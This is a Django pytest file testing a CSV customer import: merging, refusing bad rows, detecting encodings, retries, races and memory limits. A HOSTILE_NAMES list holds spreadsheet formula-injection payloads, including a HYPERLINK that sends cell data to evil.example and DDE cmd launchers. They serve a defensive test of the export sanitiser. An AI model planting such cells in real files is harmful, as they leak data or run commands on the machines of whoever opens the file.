"""Importing customers from CSV: new ones made, known ones merged, bad rows reported by line and reason."""

from __future__ import annotations

import codecs
import csv
import io
import threading
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client

from config import csv_safe
from config.errors import PermissionDenied, ValidationError
from contacts.models import AttributeDefinition, Contact, ContactImport, Identity
from contacts.services import contact_resolve
from conversations import imports, tasks
from conversations.customers import label_create
from conversations.imports import contact_import_create, contact_import_run
from conversations.models import Entry
from tests.conftest import sms_in

pytestmark = pytest.mark.django_db

CSV = """Name,Phone,Email,Plan,Labels
Rita Moreno,(415) 555-0177,rita@example.com,gold,VIP
Dana Known,+1 415 555 0142,,free,
Rita Again,,RITA@example.com,,
Bad Phone,not-a-number,,,
Nobody,,,,
Wrong Plan,+14155550170,,platinum,
Wrong Label,+14155550171,,,Nope
Two People,+14155550142,rita@example.com,,
"Quoted, Name",+14155550172,,,
"""


@pytest.fixture
def setup(inbox_support: Any, admin_ada: Any) -> None:
    AttributeDefinition.objects.create(key="plan", label="Plan", type="choice", choices=["free", "gold"])
    label_create(name="VIP", by=admin_ada)
    sms_in(inbox_support, "I'm Dana", phone="+14155550142")


def run(manager: Any, text: str = CSV) -> ContactImport:
    job = contact_import_create(by=manager, filename="customers.csv", content=text.encode())
    return contact_import_run(import_id=job.pk)


@pytest.mark.parametrize("batch_rows", [1, 3, 500])
def test_new_customers_are_made_known_ones_merged_and_bad_rows_reported(
    setup: Any, manager_maria: Any, batch_rows: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    # One row a batch writes each row alone; three and more put a new customer and its duplicate (Rita,
    # rows 2 and 4) in one batch or across two, and the batch's bulk inserts must agree with the rows.
    monkeypatch.setattr(imports, "BATCH_ROWS", batch_rows)
    job = run(manager_maria)
    assert job.state == "done" and (job.total_rows, job.processed_rows) == (9, 9)
    assert (job.created_count, job.merged_count, job.refused_count) == (2, 2, 5)
    assert [(r["line"], r["reason"]) for r in job.refused] == [
        (5, "'not-a-number' is not a valid phone."),
        (6, "No phone and no email: nothing says who this is."),
        (7, "Plan is one of: free, gold."),
        (8, "No label 'Nope'; an admin creates labels."),
        (9, "The phone and the email belong to two different customers; merge them first."),
    ]
    rita = Contact.objects.get(identities__address="rita@example.com")
    assert rita.name == "Rita Moreno" and rita.attributes == {"plan": "gold"}
    assert sorted(rita.identities.values_list("address", flat=True)) == ["+14155550177", "rita@example.com"]
    assert list(rita.labels.values_list("name", flat=True)) == ["VIP"]
    dana = Contact.objects.get(identities__address="+14155550142")
    assert dana.name == "Dana Known" and dana.attributes == {"plan": "free"}
    assert Entry.objects.filter(
        conversation__contact=dana, event_type="contact.updated", author=manager_maria
    ).exists()
    assert Contact.objects.filter(name="Quoted, Name").exists()
    assert Identity.objects.filter(address="+14155550142").count() == 1, (
        "a duplicate is merged, not made twice"
    )


def test_running_an_import_again_changes_nothing(setup: Any, manager_maria: Any) -> None:
    job = run(manager_maria)
    contacts = Contact.objects.count()
    ContactImport.objects.filter(pk=job.pk).update(state="running")  # as if a worker died and it came back
    again = contact_import_run(import_id=job.pk)
    assert Contact.objects.count() == contacts and len(again.refused) == 5


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04\x14\x00\x06\x00", "Excel workbook"),
        (b"\xff\xfe" + "phone\n+1415".encode("utf-16-le") + b"\x00\xd8", "says it is UTF-16 but is not"),
        (b"", "empty"),
        (b"name,city\nRita,Lyon\n", "phone or email"),
        (b"phone\n" + b"+14155550100\n" * 11, "At most 10 rows per file; this one has 11"),
    ],
)
def test_a_file_that_cannot_be_imported_is_refused_at_once(
    manager_maria: Any, content: bytes, message: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "ROWS_MAX", 10)
    with pytest.raises(ValidationError, match=message):
        contact_import_create(by=manager_maria, filename="x.csv", content=content)
    assert not ContactImport.objects.exists()


def test_agents_do_not_import(agent_alice: Any, alice_client: Client) -> None:
    with pytest.raises(PermissionDenied):
        contact_import_create(by=agent_alice, filename="x.csv", content=b"phone\n+14155550100\n")
    assert alice_client.get("/inbox/contacts/import/").status_code == 403


@pytest.mark.parametrize("upload_in", ["memory", "temporary file"])
def test_the_page_uploads_runs_the_task_and_reports_progress(
    setup: Any, manager_maria: Any, django_capture_on_commit_callbacks: Any, settings: Any, upload_in: str
) -> None:
    # Past FILE_UPLOAD_MAX_MEMORY_SIZE Django spools the upload to a file, which the import streams.
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0 if upload_in == "temporary file" else 2_621_440
    client = Client()
    client.force_login(manager_maria)
    upload = SimpleUploadedFile("customers.csv", CSV.encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/inbox/contacts/import/", {"file": upload})
    job = ContactImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/inbox/contacts/import/{job.pk}/"
    progress = client.get(f"/inbox/contacts/import/{job.pk}/", {"format": "json"}).json()
    assert progress["state"] == "done" and progress["percent"] == 100 and len(progress["refused"]) == 5
    assert progress["refused_count"] == 5
    page = client.get(f"/inbox/contacts/import/{job.pk}/").content.decode()
    assert "&#x27;not-a-number&#x27; is not a valid phone." in page and 'id="import-progress"' in page
    assert client.post("/inbox/contacts/import/", {}).status_code == 400


# --- spreadsheet formula injection: what the hub's CSV writer defused comes back as it was --------------
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3",
    "'=already quoted",
]


def test_an_export_of_hostile_cells_imports_back_as_the_same_text(admin_ada: Any, manager_maria: Any) -> None:
    AttributeDefinition.objects.create(key="note", label="Note", type="text")
    label_create(name="=VIP", by=admin_ada)
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow(["name", "phone", "email", "note", "labels"])
    for n, name in enumerate(HOSTILE_NAMES):
        writer.writerow([name, f"+1415555020{n}", f"c{n}@example.com", "=1+1", "=VIP"])
    exported = out.getvalue()
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in csv_safe.TRIGGERS and cell[1:].strip("0123456789")]
    assert "+14155550200" in cells  # a phone number is written as it is

    job = run(manager_maria, exported)
    assert (job.created_count, job.refused) == (len(HOSTILE_NAMES), [])
    for n, name in enumerate(HOSTILE_NAMES):
        contact = Contact.objects.get(identities__address=f"+1415555020{n}")
        assert contact.name == name and contact.attributes == {"note": "=1+1"}
        assert list(contact.labels.values_list("name", flat=True)) == ["=VIP"]


# --- what spreadsheets save ------------------------------------------------------------------------
ROWS = [("Zoë Müller", "+14155550301", "zoe@example.com"), ("François Œuvre", "+14155550302", "")]


def sheet(delimiter: str = ",") -> str:
    return "".join(delimiter.join(row) + "\r\n" for row in [("Name", "Phone", "Email"), *ROWS])


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (sheet().encode("utf-8"), "utf-8"),
        (codecs.BOM_UTF8 + sheet().encode("utf-8"), "utf-8-sig"),  # Excel's "CSV UTF-8"
        (sheet("\t").encode("utf-16"), "utf-16"),  # Excel's "Unicode Text": UTF-16 with a BOM, tabs
        (codecs.BOM_UTF16_BE + sheet().encode("utf-16-be"), "utf-16"),
        (sheet(";").encode("cp1252"), "cp1252"),  # a European Excel's plain "CSV": Windows-1252, semicolons
    ],
    ids=["utf-8", "utf-8 with BOM", "utf-16 tabs", "utf-16 big-endian", "windows-1252 semicolons"],
)
def test_the_encodings_and_separators_spreadsheets_save_are_read(
    manager_maria: Any, content: bytes, encoding: str
) -> None:
    job = run_bytes(manager_maria, content)
    assert (job.encoding, job.created_count, job.refused) == (encoding, 2, [])
    assert sorted(Contact.objects.values_list("name", flat=True)) == ["François Œuvre", "Zoë Müller"]


def test_bytes_windows_1252_has_no_letter_for_are_read_as_latin_1(manager_maria: Any) -> None:
    job = run_bytes(manager_maria, b"name,phone\r\nA\x81\xe9,+14155550301\r\n")
    assert (job.encoding, job.created_count) == ("latin-1", 1)
    assert Contact.objects.get().name == "A\x81é"


def run_bytes(manager: Any, content: bytes) -> ContactImport:
    job = contact_import_create(by=manager, filename="customers.csv", content=content)
    return contact_import_run(import_id=job.pk)


# --- broken rows -------------------------------------------------------------------------------------
def test_broken_rows_are_reported_by_row_and_reason_and_the_rest_is_imported(manager_maria: Any) -> None:
    lines = [
        "name,phone,email",
        "Good One,+14155550401,",
        "Too Few,+14155550402",  # row 3
        "Too Many,+14155550403,,extra",
        "Bad Phone,12,",
        "Nul\x00Byte,+14155550405,",
        "Long," + "+1" * 600 + ",",  # a cell over 1,000 characters
        "Endless," + "x" * (imports.LINE_MAX_CHARS + 10) + ",",  # row 8: one line too long to read
        "",  # a blank row is skipped
        "Good Two,+14155550406,",  # row 10
        '"Unclosed,+14155550407,',  # row 11: the quote swallows the lines after it, up to the cell limit
        *[f"swallowed {'y' * 200},not a phone,"] * 700,
        "Good Three,+14155550408,",
    ]
    job = run(manager_maria, "\n".join(lines) + "\n")
    assert job.state == "done" and job.total_rows == job.processed_rows
    refused = {r["line"]: r["reason"] for r in job.refused}
    assert refused[3] == "The row has 2 cells; the first row names 3 columns."
    assert refused[4] == "The row has 4 cells; the first row names 3 columns."
    assert refused[5] == "'12' is not a valid phone."
    assert refused[6] == "The name cell holds a NUL character; is this a CSV?"
    assert refused[7] == "The phone cell is over 1,000 characters."
    assert refused[8] == "The line is over 65,536 characters."
    assert refused[11] == "A cell runs over 131,072 characters (a quote never closed?)."
    assert 9 not in refused and 10 not in refused
    names = set(Contact.objects.values_list("name", flat=True))
    assert {"Good One", "Good Two", "Good Three"} <= names
    assert job.refused_count == len(job.refused) and job.created_count == len(names)


def test_a_file_of_many_broken_rows_lists_the_first_and_counts_them_all(
    manager_maria: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "REFUSED_LISTED", 5)
    job = run(manager_maria, "phone\n" + "nope\n" * 12 + "+14155550401\n")
    assert (job.refused_count, len(job.refused), job.created_count) == (12, 5, 1)
    assert [r["line"] for r in job.refused] == [2, 3, 4, 5, 6]


# --- batches, retries and races ---------------------------------------------------------------------
def test_an_import_whose_worker_died_midway_carries_on_without_doubles(
    manager_maria: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(imports, "BATCH_ROWS", 4)
    text = "name,phone\n" + "".join(f"C{n},+141555506{n:02d}\n" for n in range(10))
    job = contact_import_create(by=manager_maria, filename="x.csv", content=text.encode())
    real = imports._batch_bulk
    calls = []

    def dies_on_the_second_batch(*args: Any) -> None:
        calls.append(1)
        if len(calls) == 2:
            raise SystemExit("worker killed")
        real(*args)

    monkeypatch.setattr(imports, "_batch_bulk", dies_on_the_second_batch)
    with pytest.raises(SystemExit):
        contact_import_run(import_id=job.pk)
    assert ContactImport.objects.get(pk=job.pk).processed_rows == 4 and Contact.objects.count() == 4
    monkeypatch.setattr(imports, "_batch_bulk", real)
    done = contact_import_run(import_id=job.pk)
    assert (done.processed_rows, done.created_count, Contact.objects.count()) == (10, 10, 10)


def test_a_customer_an_sms_made_while_the_batch_ran_is_merged_not_doubled(
    transactional_db: Any, manager_maria: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = Contact.objects.bulk_create

    def a_first_sms_from_dana(objs: Any, *args: Any, **kwargs: Any) -> Any:
        # Between the batch's look-up and its inserts, Dana's first message is stored by another process.
        def webhook() -> None:
            try:
                contact_resolve(kind="phone", address="+14155550502")
            finally:
                connection.close()

        other = threading.Thread(target=webhook)
        other.start()
        other.join()
        return real(objs, *args, **kwargs)

    monkeypatch.setattr(tasks.import_contacts, "apply_async", lambda **kwargs: None)  # run below, once
    text = "name,phone\nRita,+14155550501\nDana,+14155550502\n"
    job = contact_import_create(by=manager_maria, filename="x.csv", content=text.encode())
    monkeypatch.setattr(Contact.objects, "bulk_create", a_first_sms_from_dana)
    job = contact_import_run(import_id=job.pk)
    assert (job.created_count, job.merged_count, job.refused) == (1, 1, [])
    assert Identity.objects.filter(address="+14155550502").count() == 1
    assert Contact.objects.get(identities__address="+14155550502").name == "Dana"


def test_an_import_whose_file_is_gone_fails_with_a_reason_and_keeps_what_it_did(manager_maria: Any) -> None:
    job = contact_import_create(by=manager_maria, filename="x.csv", content=b"phone\n+14155550601\n")
    job.file.storage.delete(job.file.name)
    job = contact_import_run(import_id=job.pk)
    assert job.state == "failed" and job.finished_at is not None
    assert job.error == "The stored file could not be read (FileNotFoundError); upload it again."
    assert contact_import_run(import_id=job.pk).state == "failed"  # a redelivered task leaves it so


# --- a million rows in bounded memory ----------------------------------------------------------------
# (A million rows end to end into PostgreSQL, with the process's resident memory: bench/imports.py.)
def customers_file(path: Path, rows: int) -> Path:
    with path.open("w") as out:
        out.write("name,phone,email\n")
        for n in range(rows):
            out.write(f"Customer {n},+1415{2000000 + n:07d},c{n}@example.com\n")
            if n % 100 == 0:
                out.write("Broken,not a phone,\n")
    return path


def peak_bytes(work: Any) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_reading_the_file_streams_it(tmp_path: Path) -> None:
    """Checking 200,000 rows takes no more memory than checking 10,000: the file is never read whole."""
    peaks = []
    for rows in (10_000, 200_000):
        with customers_file(tmp_path / f"{rows}.csv", rows).open("rb") as upload:
            found: list[tuple[str, int]] = []
            peaks.append(peak_bytes(lambda upload=upload, found=found: found.append(imports._survey(upload))))
            assert found == [("utf-8", rows + rows // 100)]
    small, large = peaks
    assert large - small < 64 * 1024, f"peak {small:,} bytes for 10,000 rows, {large:,} for 200,000"


def test_memory_of_an_import_does_not_grow_with_its_rows(
    manager_maria: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Six times the rows, the same peak: the rows are written a batch at a time, and nothing is kept."""
    monkeypatch.setattr(imports, "BATCH_ROWS", 100)
    monkeypatch.setattr(imports, "REFUSED_LISTED", 3)
    peaks = []
    for rows in (500, 3_000):
        Contact.objects.all().delete()
        with customers_file(tmp_path / f"{rows}.csv", rows).open("rb") as upload:

            def work(upload: Any = upload, rows: int = rows) -> None:
                job = contact_import_create(by=manager_maria, filename="big.csv", content=upload)
                job = contact_import_run(import_id=job.pk)
                assert (job.created_count, job.refused_count) == (rows, rows // 100)

            peaks.append(peak_bytes(work))
    small, large = peaks
    assert large - small < 128 * 1024, f"peak {small:,} bytes for 500 rows, {large:,} for 3,000"
